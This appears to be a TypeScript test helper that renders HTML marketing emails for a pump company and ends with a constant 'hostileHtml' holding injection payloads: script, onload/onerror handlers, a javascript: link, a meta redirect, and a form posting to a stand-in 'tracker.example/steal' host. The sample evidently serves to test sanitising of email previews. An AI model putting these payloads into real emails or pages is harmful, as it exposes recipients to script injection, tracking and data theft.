import type { Email, EmailLink } from './catalogue';

/** The message as somebody wrote it in a designer: tables, pictures in place, tracked links. */
export function htmlOf(email: Email, version: 'newest' | 'previous'): string {
  const links = email.links.filter(({ gone }) => version === 'previous' || !gone);
  const body = email.plan.wide ? columns(links) : links.map((link) => `<p>${anchor(link)}</p>`).join('\n');
  return `<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>${escaped(email.plan.subject)}</title>
<style>.frame{max-width:640px;margin:0 auto;font-family:Georgia,serif}.button{background:#0b556a;color:#fff;padding:8px 16px}</style>
</head>
<body style="margin:0;background:#f4f1ea">
<table class="frame" role="presentation" width="640" cellpadding="0" cellspacing="0"><tr><td>
${picture('#0b556a', 640, 120)}
<h1>${escaped(email.plan.subject)}</h1>
<p>${escaped(email.plan.lead)}</p>
${body}
</td></tr><tr><td><small>Kvitfoss Pumps AS, Bergen.
<a href="{{msdyncrm_subscriptioncenter}}">Subscription center</a>
<a href="{{msdyncrm_forwardtoafriend}}">Forward to a friend</a></small></td></tr></table>
</body>
</html>
`;
}

/** Three links a row, each under a picture of its own. */
function columns(links: readonly EmailLink[]): string {
  const rows: string[] = [];
  for (let index = 0; index < links.length; index += 3) {
    const cells = links.slice(index, index + 3).map((link, place) => {
      const colour = ['#c2410c', '#0b556a', '#3f6212'][place] ?? '#444444';
      return `<td width="33%" valign="top">${picture(colour, 200, 90)}<p>${anchor(link)}</p></td>`;
    });
    rows.push(`<tr>${cells.join('')}</tr>`);
  }
  return `<table role="presentation" width="100%">\n${rows.join('\n')}\n</table>`;
}

const anchor = ({ text, url }: EmailLink): string => `<a class="button" href="${escaped(url)}">${escaped(text)}</a>`;

function picture(colour: string, width: number, height: number): string {
  const svg =
    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">` +
    `<rect width="100%" height="100%" fill="${colour}"/></svg>`;
  const data = Buffer.from(svg).toString('base64');
  return `<img alt="" width="${width}" height="${height}" src="data:image/svg+xml;base64,${data}">`;
}

/** Text as it stands in HTML, and as the exporter keeps the names of links. */
export function escaped(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** A message that tries to do harm where it is looked at. */
export const hostileHtml = `<html><head><meta http-equiv="refresh" content="0;url=https://tracker.example/">
<base href="https://tracker.example/"><style>@import url(https://tracker.example/a.css);</style>
<script>window.parent.postMessage('owned','*')</script></head>
<body onload="alert(1)"><form action="https://tracker.example/steal"><input name="q"></form>
<svg onload="alert(2)"></svg><iframe src="https://tracker.example/"></iframe>
<img src="https://tracker.example/pixel.gif" onerror="alert(3)"><a href="javascript:alert(4)">Read more</a></body></html>`;
